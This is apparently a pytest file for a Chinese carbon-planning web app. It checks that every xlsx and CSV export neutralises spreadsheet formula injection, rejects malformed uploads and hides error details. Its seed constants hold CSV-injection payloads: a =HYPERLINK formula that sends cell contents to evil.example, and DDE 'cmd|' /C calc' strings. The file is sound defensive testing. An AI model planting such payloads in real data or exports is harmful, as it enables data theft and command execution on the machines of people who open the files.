"""Every export route neutralises formula-like text (issue #8, finding 7; OWASP CSV injection).

Formula text is seeded wherever the data allows it — a region's name, a plan indicator's name,
a pilot's and a project's name and notes — and every xlsx and CSV download of the app is opened
and checked cell by cell.  The list of export routes is derived from the app's routers, so a new
download route without a case here fails `test_every_export_route_is_covered`.  The finding-9
routes (a single-year decomposition round, the IAMC download of an empty run) answer 4xx.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from datetime import date

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import update

from tanzhi.access import Role, User, create_user
from tanzhi.config import Settings
from tanzhi.disclosure import publish_inventory, publish_plan_status
from tanzhi.enterprise import register
from tanzhi.http import authorize
from tanzhi.inventory import service as inventory_service
from tanzhi.kernel import unit_of_work
from tanzhi.kernel.exports import is_neutral
from tanzhi.kernel.regions import RegionRow
from tanzhi.plan import (
    create_pilot,
    create_project,
    create_scheme,
    get_plan,
    run_round,
    save_plan,
    sync_packaged_plans,
)
from tanzhi.web import create_app
from tanzhi.web.routes import ROUTES
from tests.plan.test_decompose_service import _build

PASSWORD = "exports-test-pw"
ADMIN = User(1, "zj.exports", "浙江省", Role.PROVINCE_ADMIN, "330000")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
EVIL_PLUS = "+1+cmd|' /C calc'!A0"
EVIL_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_MINUS = "-2+3+cmd|' /C calc'!A0"
MARKERS = ("HYPERLINK", "cmd|")
# The demo's first enterprise's code (valid GB 32100 check character, tests/enterprise).
ENTERPRISE = "91330603MA2DM00015"

# Routes that answer a file tanzhi did not write from stored text: evidence files are returned
# byte for byte as their owner uploaded them; reports are HTML, PDF and DOCX, not spreadsheets.
EXEMPT = {
    "/assess/evidence/{evidence_id}": "the uploaded file itself, returned unchanged",
    "/enterprise/evidence/{file_id}": "the uploaded file itself, returned unchanged",
    "/api/v1/reports/{report_id}/{fmt}": "html/pdf/docx documents",
    "/reports/{report_id}/download/{fmt}": "html/pdf/docx documents",
    "/public/reports/{report_id}/download/{fmt}": "html/pdf/docx documents",
    # A signed-off scheme's public ranking goes through the same table writer as the status
    # table above (disclosure.service._table_bytes), which the plan cases exercise.
    "/public/assess/{scheme_id}/download/{fmt}": "same writer as /public/plans/…/download",
    "/api/v1/plans/import": "an upload (answers JSON)",
    "/plans/{plan_id}/upload": "an upload (answers a page)",
}


def export_routes(app: FastAPI) -> set[str]:
    """GET routes whose handler answers a spreadsheet or CSV attachment."""
    found = set()
    for router, prefix in ROUTES:
        for route in router.routes:
            # An included sub-router (FastAPI ≥ 0.165) lists its routes as contexts.
            contexts = route.effective_route_contexts() if hasattr(
                route, "effective_route_contexts") else [route]
            for context in contexts:
                endpoint = getattr(context, "endpoint", None)
                if endpoint is None or "GET" not in (getattr(context, "methods", None) or ()):
                    continue
                source = inspect.getsource(endpoint)
                if re.search(r"XLSX|spreadsheetml|text/csv|DOWNLOAD_TYPES|attachment", source):
                    path = context.path if context.path.startswith(prefix) else \
                        prefix + context.path
                    found.add(path)
    return found


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory, migrated_copy):
    settings = migrated_copy(tmp_path_factory.mktemp("exports") / "data")
    engine, factory = _build(settings)
    with unit_of_work(factory, actor="test") as s:
        create_user(s, username="zj.exports", password=PASSWORD, role=Role.PROVINCE_ADMIN,
                    display_name="省", region_code="330000")
        # A region named like a formula reaches the decomposition and IAMC downloads.
        s.execute(update(RegionRow).where(RegionRow.code == "330602").values(
            name_zh=EVIL, name_en=EVIL_PLUS))
        sync_packaged_plans(s)
        plan = get_plan(s, "sx-fyp14-climate")
        first = plan.indicators[0].model_copy(update={"name_zh": EVIL, "name_en": EVIL_AT})
        save_plan(s, plan.model_copy(update={"indicators": [first, *plan.indicators[1:]]}),
                  actor="test")
        create_pilot(s, user=ADMIN, values={
            "name_zh": EVIL, "kind": "town", "carbon_level": "low_carbon",
            "region_code": "330602", "applied_on": date(2022, 3, 1), "notes": EVIL_MINUS,
            "lead_unit": EVIL_AT})
        create_project(s, user=ADMIN, values={
            "name_zh": EVIL, "region_code": "330602", "sector": "energy",
            "investment_value": 1.0, "investment_unit": "亿元", "start_year": 2022,
            "end_year": 2024, "status": "completed", "notes": EVIL_MINUS, "owner_unit": EVIL_AT})
        round_id = run_round(
            s, plan_id="sx-fyp14-climate", indicator_id="energy_intensity", method="equal",
            save=True, name=EVIL, actor="test").round_id
        run_id = inventory_service.compile_inventory(
            s, region_codes=["330600", "330602"], years=[2020], label=EVIL).id
        scheme_id = create_scheme(s, plan_id="sx-fyp14-climate", year=2025, user=User(
            2, "sx.exports", "绍兴", Role.CITY_OFFICER, "330600")).id
        # An enterprise named like a formula reaches its 一企一档 workbook (issue #12).
        register(s, user=ADMIN, credit_code=ENTERPRISE, name_zh=EVIL, name_en=EVIL_PLUS,
                 industry_code="C3011", region_code="330602", annual_energy_tce=6000.0,
                 address=EVIL_MINUS)
        # The public portal's downloads (issue #11 item 6) carry the same names.
        publish_inventory(s, run_id=run_id, region_code="330602", as_of=date(2026, 12, 1),
                          actor="test", actor_name=EVIL)
        publish_plan_status(s, plan_id="sx-fyp14-climate", region_code="330600",
                            as_of=date(2026, 12, 1), year=None, actor="test", actor_name=EVIL)
    app = create_app(settings)
    client = TestClient(app)
    page = client.get("/login").text
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    r = client.post("/login", data={"username": "zj.exports", "password": PASSWORD,
                                    "csrf_token": token, "next": "/"})
    assert r.status_code == 200
    yield app, client, {"round_id": round_id, "run_id": run_id, "scheme_id": scheme_id,
                        "first_indicator": first.id}
    engine.dispose()


def cases(ids: dict[str, int]) -> dict[str, list[str]]:
    run, rnd = ids["run_id"], ids["round_id"]
    return {
        "/inventory/upload/template": ["/inventory/upload/template?format=xlsx",
                                       "/inventory/upload/template?format=csv"],
        "/inventory/runs/{run_id}/download": [
            f"/inventory/runs/{run}/download?format=csv&region=330600",
            f"/inventory/runs/{run}/download?format=iamc&region=330600",
            f"/inventory/runs/{run}/download?format=xlsx&region=330602"],
        "/api/v1/plans/{plan_id}/workbook": ["/api/v1/plans/sx-fyp14-climate/workbook"],
        "/plans/{plan_id}/workbook": ["/plans/sx-fyp14-climate/workbook"],
        "/api/v1/decompose/rounds/{round_id}/workbook.xlsx": [
            f"/api/v1/decompose/rounds/{rnd}/workbook.xlsx"],
        "/api/v1/assess/pilots/export.xlsx": ["/api/v1/assess/pilots/export.xlsx"],
        "/api/v1/assess/projects/export.xlsx": ["/api/v1/assess/projects/export.xlsx"],
        "/assess/pilots/export.xlsx": ["/assess/pilots/export.xlsx?region=330600"],
        "/assess/projects/export.xlsx": ["/assess/projects/export.xlsx?region=330600"],
        # issue #11 item 9: the status table, an assessment's scores, the audit log
        "/plans/{plan_id}/status.xlsx": ["/plans/sx-fyp14-climate/status.xlsx",
                                         "/plans/sx-fyp14-climate/status.xlsx?region=330602"],
        "/assess/schemes/{scheme_id}/scores.xlsx": [
            f"/assess/schemes/{ids['scheme_id']}/scores.xlsx"],
        # brief acct item 2: the indicator page's series, status and provenance
        "/enterprise/e/{credit_code}/export.xlsx": [f"/enterprise/e/{ENTERPRISE}/export.xlsx"],
        "/plans/{plan_id}/indicators/{indicator_id}/export.xlsx": [
            f"/plans/sx-fyp14-climate/indicators/{ids['first_indicator']}/export.xlsx",
            "/plans/sx-fyp14-climate/indicators/energy_intensity/export.xlsx?region=330602"],
        "/admin/audit/export.csv": ["/admin/audit/export.csv",
                                    "/admin/audit/export.csv?table=plan_pilot"],
        "/public/inventory/{run_id}/{region}/download/{fmt}": [
            f"/public/inventory/{run}/330602/download/csv",
            f"/public/inventory/{run}/330602/download/xlsx"],
        "/public/plans/{plan_id}/{region}/download/{fmt}": [
            "/public/plans/sx-fyp14-climate/330600/download/csv",
            "/public/plans/sx-fyp14-climate/330600/download/xlsx"],
    }


def cells(response) -> list[tuple[str, object, bool]]:
    """(where, value, is a formula) for every non-empty cell of an xlsx or CSV download."""
    out = []
    if response.content[:2] == b"PK":
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        out.append((f"{sheet.title}!{cell.coordinate}", cell.value,
                                    cell.data_type == "f"))
    else:
        text = response.content.decode("utf-8-sig")
        for r, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
            out += [(f"row {r} col {c}", value, False) for c, value in enumerate(row, start=1)
                    if value]
    return out


def test_every_export_route_is_covered(seeded) -> None:
    app, _client, ids = seeded
    routes = export_routes(app)
    assert routes, "no export route found: the enumeration is broken"
    missing = routes - set(cases(ids)) - set(EXEMPT)
    assert missing == set(), f"export routes without a neutralisation case: {missing}"


def test_no_download_cell_is_a_live_formula(seeded) -> None:
    _app, client, ids = seeded
    seen_marker = []
    for route, urls in cases(ids).items():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (url, response.text[:300])
            for where, value, formula in cells(response):
                text = str(value)
                if formula:  # the exporter's own formulas (SUMs) carry no stored text
                    assert not any(m in text for m in MARKERS), (url, where, text)
                    continue
                assert is_neutral(value), (url, where, text)
                if any(m in text for m in MARKERS):
                    seen_marker.append(route)
    # The seeded text reached the downloads that carry names (so the check above meant it).
    for route in ("/api/v1/plans/{plan_id}/workbook", "/api/v1/assess/pilots/export.xlsx",
                  "/api/v1/assess/projects/export.xlsx",
                  "/api/v1/decompose/rounds/{round_id}/workbook.xlsx",
                  "/plans/{plan_id}/status.xlsx", "/admin/audit/export.csv",
                  "/plans/{plan_id}/indicators/{indicator_id}/export.xlsx"):
        assert route in seen_marker, route


def test_plan_workbook_round_trips_the_formula_text(seeded) -> None:
    # Finding 7: "=HYPERLINK(…)" came back as a live formula.  Now it is text, and an export
    # uploaded again gives the indicator its original name back.
    _app, client, _ids = seeded
    body = client.get("/api/v1/plans/sx-fyp14-climate/workbook").content
    book = openpyxl.load_workbook(io.BytesIO(body))
    values = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert "'" + EVIL in values and EVIL not in values
    from tanzhi.plan.service.workbook import read_plan_workbook

    plan = read_plan_workbook(body, filename="back.xlsx")
    assert plan.indicators[0].name_zh == EVIL


# ------------------------------------------------------------------------------- finding 9


def test_single_year_round_page_is_not_a_500(seeded) -> None:
    # "slice step cannot be zero": a round whose statistics span one year.
    _app, client, ids = seeded
    response = client.get(f"/decompose/rounds/{ids['round_id']}")
    assert response.status_code == 200


def test_iamc_download_of_an_empty_run_is_a_404(seeded) -> None:
    app, client, _ids = seeded
    factory = app.state.session_factory
    with unit_of_work(factory, actor="test") as s:
        # Only a memo item: the run holds rows, none of them counted emissions.
        data = ("region_code,year,category,item,value,unit\n"
                "330602,2022,memo.net_imported_electricity,电力,10,亿千瓦时\n").encode()
        set_id = inventory_service.import_activity(s, data, filename="memo.csv", label="memo",
                                                   uploader="test")
        empty = inventory_service.compile_inventory(s, source=f"upload:{set_id}",
                                                    label="empty").id
    for fmt in ("iamc", "xlsx", "csv"):
        response = client.get(f"/inventory/runs/{empty}/download?format={fmt}&region=330602")
        assert response.status_code < 500, (fmt, response.text[:300])
    iamc = client.get(f"/inventory/runs/{empty}/download?format=iamc&region=330602")
    assert iamc.status_code == 404 and "IAMC" in iamc.text


def _token(client: TestClient, url: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).text).group(1)


BAD_UPLOADS = {
    "nul.csv": b"region_code,year,category,item,value,unit\n330602,2022,1.A.1,\x00,1,t\n",
    "invalid-utf8.csv": b"region_code,year\n\xff\xfe\xfa\x80\x81,2022\n",
    "unit-paren.csv": ("region_code,year,category,item,value,unit\n"
                       "330602,2022,1.A.1.a.i,原煤,1,(\n").encode(),
    "unit-one-over-zero.csv": ("region_code,year,category,item,value,unit\n"
                               "330602,2022,1.A.1.a.i,原煤,1,1/0\n").encode(),
    "xfd.xlsx": None,
}


@pytest.mark.parametrize("name", list(BAD_UPLOADS))
@pytest.mark.parametrize("url", ["/inventory/upload", "/api/v1/assess/pilots/import",
                                 "/api/v1/assess/projects/import", "/api/v1/plans/import"])
def test_bad_uploads_answer_4xx(seeded, url: str, name: str) -> None:
    """Refused with a located error: directly (4xx), or, where the upload runs as a background
    job (the inventory upload, issue #8 item 7), as a failed job whose problems name the place."""
    app, client, _ids = seeded
    data = BAD_UPLOADS[name]
    if data is None:
        from tests.kernel.malformed import xlsx

        data = xlsx(rows=[["a"]], extra_cells='<row r="1048576"><c r="XFD1048576"><v>1</v>'
                                              '</c></row>')
    token = _token(client, "/inventory/upload")
    response = client.post(url, files={"file": (name, data)}, data={"csrf_token": token},
                           headers={"X-CSRF-Token": token}, follow_redirects=False)
    job = re.fullmatch(r"/jobs/(\d+)\?follow=1", response.headers.get("location", ""))
    if response.status_code == 303 and job:
        assert app.state.jobs.wait(int(job.group(1)), 120)
        outcome = client.get(f"/api/v1/jobs/{job.group(1)}").json()
        assert outcome["status"] == "failed", outcome
        assert outcome["problems"] or outcome["error"], outcome
        return
    assert 400 <= response.status_code < 500, (url, name, response.status_code,
                                                response.text[:300])


@pytest.mark.parametrize("value", ["a\x00b", "\udcff", "\x00"])
def test_nul_and_broken_text_in_form_fields_answer_4xx_or_succeed(seeded, value: str) -> None:
    _app, client, _ids = seeded
    token = _token(client, "/inventory/upload")
    raw = value.encode("utf-8", "surrogateescape")
    body = b"csrf_token=" + token.encode() + b"&label=" + raw.replace(b"\x00", b"%00") + \
        b"&plan_id=" + raw.replace(b"\x00", b"%00")
    for url in ("/inventory/upload", "/decompose/run", "/assess/pilots/import"):
        response = client.post(url, content=body, headers={
            "content-type": "application/x-www-form-urlencoded"})
        assert response.status_code < 500, (url, response.status_code, response.text[:300])


def test_unexpected_errors_are_a_bilingual_500_without_details(settings: Settings) -> None:
    app = create_app(settings)
    # The ad-hoc route has no policy row (issue #8 item 3 refuses such routes); this test is
    # about the error handler, so the policy guard is lifted for it.
    app.dependency_overrides[authorize] = lambda: None

    @app.get("/boom")
    @app.get("/api/v1/boom")
    def boom() -> None:
        raise RuntimeError("secret internal detail")

    client = TestClient(app, raise_server_exceptions=False)
    page = client.get("/boom", headers={"accept": "text/html"})
    assert page.status_code == 500
    # The page speaks the UI's language (issue #11 item 7: no bilingual pages); the JSON problem
    # below keeps both languages.
    assert "服务器出错" in page.text and "the server failed" not in page.text
    assert "secret internal detail" not in page.text and "Traceback" not in page.text
    problem = client.get("/api/v1/boom")
    assert problem.status_code == 500 and problem.json()["title_zh"] == "服务器内部错误"
    assert "secret" not in problem.text and problem.json()["reference"]
    assert "the server failed" in problem.json()["detail"]
